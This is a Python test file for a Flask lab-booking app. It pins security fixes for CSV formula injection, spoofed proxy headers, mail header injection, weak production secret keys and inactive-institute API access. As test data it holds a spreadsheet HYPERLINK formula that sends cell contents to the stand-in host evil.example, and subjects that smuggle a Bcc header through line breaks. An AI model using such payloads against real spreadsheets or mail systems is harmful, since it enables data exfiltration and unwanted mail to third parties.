"""The review's findings, each pinned by a test that fails without its fix: CSV
injection, the booking rate-limit key, trusted proxies, mail header line breaks,
production's SECRET_KEY and seed-demo, the Procfile, the API and inactive
institutes, and OPTIONS on every URL rule."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import func, select

from config import ProductionConfig, TestingConfig
from labshare import create_app
from labshare.campaign import export
from labshare.campaign.stats import Period, Scope
from labshare.extensions import db as _db
from labshare.jobs import exports as export_job
from labshare.jobs import run_job
from labshare.messaging import mail, notify
from labshare.models import (
    Booking,
    BookingStatus,
    Institute,
    LoginThrottle,
    Notification,
    NotificationStatus,
    Role,
)
from labshare.safety import spreadsheet_text
from labshare.timeutil import set_clock
from tests import factories
from tests.factories import PASSWORD
from tests.helpers import END, NOW, START, bearer, error_of
from tests.jobsutil import SmtpServer

ROOT = Path(__file__).resolve().parent.parent
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'

# -- CSV injection ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 10 1234", "'+86 10 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("苏州精密", "苏州精密"),
        ("a=b", "a=b"),
        ("", ""),
        (12, 12),
    ],
)
def test_spreadsheet_text(value: Any, expected: Any) -> None:
    assert spreadsheet_text(value) == expected


def _formula_world() -> None:
    company = factories.make_company(name=FORMULA)
    user = factories.make_user(Role.SME, company=company)
    factories.make_booking(
        user=user,
        start=dt.datetime(2030, 1, 7, 1, 0, tzinfo=dt.UTC),
        status=BookingStatus.APPROVED,
        purpose="@import evil",
    )
    _db.session.commit()


def _cells(raw: bytes) -> list[str]:
    text = raw.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_monthly_export_csv_writes_formulas_as_text(app: Flask, db: Any) -> None:
    _formula_world()
    raw = b"".join(export.iter_csv(Period.month("2030-01"), Scope.everything()))
    cells = _cells(raw)
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_scheduled_export_csv_writes_formulas_as_text(app: Flask, db: Any) -> None:
    _formula_world()
    path, _rows = export_job.write_csv("2030-01")
    cells = _cells(path.read_bytes())
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


# -- trusted proxies ------------------------------------------------------------------------


def _failed_login_address(flask_app: Flask, email: str, **environ: Any) -> str:
    client = flask_app.test_client()
    client.post(
        "/login",
        data={"email": email, "password": "wrong password 42"},
        headers={"X-Forwarded-For": "198.51.100.7, 203.0.113.9"},
        environ_base=environ,
    )
    with flask_app.app_context():
        row = _db.session.scalar(
            select(LoginThrottle).where(LoginThrottle.email == email).order_by(LoginThrottle.id)
        )
        assert row is not None
        return row.address


def test_client_address_comes_from_trusted_proxies_only(app: Flask, db: Any, tmp_path: Any) -> None:
    assert app.config["TRUSTED_PROXY_COUNT"] == 0
    # Without the setting a forged X-Forwarded-For is ignored.
    assert _failed_login_address(app, "a@example.com") == "127.0.0.1"
    behind_one = create_app(
        TestingConfig,
        SQLALCHEMY_DATABASE_URI=app.config["SQLALCHEMY_DATABASE_URI"],
        INSTANCE_DIR=str(tmp_path),
        TRUSTED_PROXY_COUNT=1,
    )
    try:
        # One proxy: its own hop (the last one) is the client.
        assert _failed_login_address(behind_one, "b@example.com") == "203.0.113.9"
    finally:
        with behind_one.app_context():
            _db.engine.dispose()


def test_trusted_proxy_count_is_documented() -> None:
    for doc in ("README.md", "docs/production.md"):
        assert "TRUSTED_PROXY_COUNT" in (ROOT / doc).read_text(encoding="utf-8"), doc


# -- mail headers -----------------------------------------------------------------------

BREAKS = ["\r", "\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]


def test_header_value_removes_every_line_break() -> None:
    for brk in BREAKS:
        assert mail.header_value(f"仪器{brk}Bcc: victim@example.com") == (
            "仪器 Bcc: victim@example.com"
        )


def test_subjects_with_line_breaks_are_delivered_on_one_line(
    app: Flask, db: Any, smtp: SmtpServer
) -> None:
    user = factories.make_user(Role.SME)
    for n, brk in enumerate(BREAKS):
        notify.enqueue(
            user,
            "test",
            subject=f"压力校验仪{brk}Bcc: victim@example.com",
            body_text="hello",
            dedupe_key=f"header-test:{n}",
        )
    db.session.commit()
    run_job("deliver")
    assert len(smtp.messages) == len(BREAKS)
    for msg in smtp.messages:
        assert msg["Subject"] == "压力校验仪 Bcc: victim@example.com"
        assert msg["Bcc"] is None


def test_a_message_that_cannot_be_built_does_not_stop_the_batch(
    app: Flask, db: Any, smtp: SmtpServer, monkeypatch: Any
) -> None:
    user = factories.make_user(Role.SME)
    for n in range(3):
        notify.enqueue(user, "test", subject=f"m{n}", body_text="x", dedupe_key=f"batch:{n}")
    db.session.commit()
    real = mail.build_message

    def build(note: Notification, recipient: Any) -> Any:
        if note.subject == "m0":
            raise ValueError("broken header")
        return real(note, recipient)

    monkeypatch.setattr(mail, "build_message", build)
    run_job("deliver")
    assert sorted(m["Subject"] for m in smtp.messages) == ["m1", "m2"]
    statuses = dict(db.session.execute(select(Notification.subject, Notification.status)).all())
    assert statuses["m0"] == NotificationStatus.FAILED
    assert statuses["m1"] == statuses["m2"] == NotificationStatus.SENT


# -- production settings ------------------------------------------------------------------


@pytest.mark.parametrize(
    "key",
    [
        "change-me-to-64-random-hex-characters",  # deploy/env.example's placeholder
        "CHANGE-ME-please-this-is-long-enough-to-pass-the-length-test",
        "short-key",
        "x" * 31,
        "",
    ],
)
def test_production_refuses_a_placeholder_or_short_secret_key(
    app: Flask, tmp_path: Any, key: str
) -> None:
    class Prod(ProductionConfig):
        SECRET_KEY = key
        SQLALCHEMY_DATABASE_URI = app.config["SQLALCHEMY_DATABASE_URI"]

    with pytest.raises(RuntimeError, match="SECRET_KEY"):
        create_app(Prod, INSTANCE_DIR=str(tmp_path))
    # Nor through an override of a good class value.
    Prod.SECRET_KEY = "k" * 64
    with pytest.raises(RuntimeError, match="SECRET_KEY"):
        create_app(Prod, INSTANCE_DIR=str(tmp_path), SECRET_KEY=key or "short")


def test_env_example_placeholder_is_refused() -> None:
    from config import secret_key_problem

    example = (ROOT / "deploy/env.example").read_text(encoding="utf-8")
    found = re.search(r"^SECRET_KEY=(.*)$", example, re.M)
    assert found is not None
    assert secret_key_problem(found.group(1)) is not None
    assert secret_key_problem("a" * 32) is None


def test_seed_demo_refuses_to_run_in_production(app: Flask, db: Any, monkeypatch: Any) -> None:
    monkeypatch.setitem(app.config, "IS_PRODUCTION", True)
    result = app.test_cli_runner().invoke(args=["seed-demo"])
    assert result.exit_code != 0
    assert "production" in result.output
    assert db.session.scalar(select(func.count(Institute.id))) == 0


def test_procfile_web_line_runs_the_production_configuration() -> None:
    lines = (ROOT / "deploy/Procfile").read_text(encoding="utf-8").splitlines()
    web = next(line for line in lines if line.startswith("web:"))
    assert "LABSHARE_CONFIG=production" in web


# -- inactive institutes over the API -----------------------------------------------------


def test_api_refuses_resources_of_an_inactive_institute(
    client: Any, db: Any, make_instrument: Any, make_user: Any
) -> None:
    set_clock(lambda: NOW)
    inst = make_instrument()
    user = make_user(Role.SME)
    inst.institute.active = False
    db.session.commit()
    headers = bearer(user)
    web = client.get(f"/resources/{inst.id}")
    assert web.status_code == 404
    payload = {"resource_id": inst.id, "start": START, "end": END, "purpose": "x"}
    booked = client.post("/api/v1/bookings", json=payload, headers=headers)
    assert booked.status_code == 404 and error_of(booked)["code"] == "not_found"
    assert client.get(f"/api/v1/resources/{inst.id}").status_code == 404
    assert client.post("/api/v1/waitlist", json=payload, headers=headers).status_code == 404
    assert db.session.scalar(select(func.count(Booking.id))) == 0
    inst.institute.active = True
    db.session.commit()
    assert client.post("/api/v1/bookings", json=payload, headers=headers).status_code == 201


# -- OPTIONS --------------------------------------------------------------------------------


def _concrete(rule: str) -> str:
    url = re.sub(r"<int:[a-z_]+>", "1", rule)
    url = re.sub(r"<path:[a-z_]+>", "css/app.css", url)
    return re.sub(r"<[a-z_]+>", "x", url)


@pytest.mark.parametrize("who", ["anonymous", "sme", "staff", "admin"])
def test_options_on_every_url_rule_is_never_a_server_error(
    app: Flask, db: Any, make_user: Any, who: str
) -> None:
    client = app.test_client()
    if who != "anonymous":
        user = make_user(Role(who))
        db.session.commit()
        client.post("/login", data={"email": user.email, "password": PASSWORD})
    failures = []
    for rule in app.url_map.iter_rules():
        url = _concrete(rule.rule)
        response = client.open(url, method="OPTIONS")
        if response.status_code >= 500:
            failures.append((url, response.status_code))
    assert failures == []


def test_anonymous_options_on_manage_is_not_a_500(client: Any, db: Any) -> None:
    assert client.open("/manage", method="OPTIONS").status_code < 500
